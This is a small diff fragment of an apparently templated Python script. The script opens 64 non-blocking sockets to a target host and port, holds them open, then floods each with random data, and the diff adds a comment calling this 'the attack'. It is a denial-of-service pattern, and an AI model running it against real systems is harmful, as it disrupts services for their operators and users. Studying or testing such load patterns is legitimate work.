@@ -56,7 +56,7 @@ for _ in range(64):
     caller.setblocking(False)
     caller.connect_ex(({gate!r}, {port}))
     held.append(caller)
-time.sleep(1)
+time.sleep(1)  # to hold them open together is the attack
 for caller in held:
     try:
         caller.send(os.urandom(1 << 16))
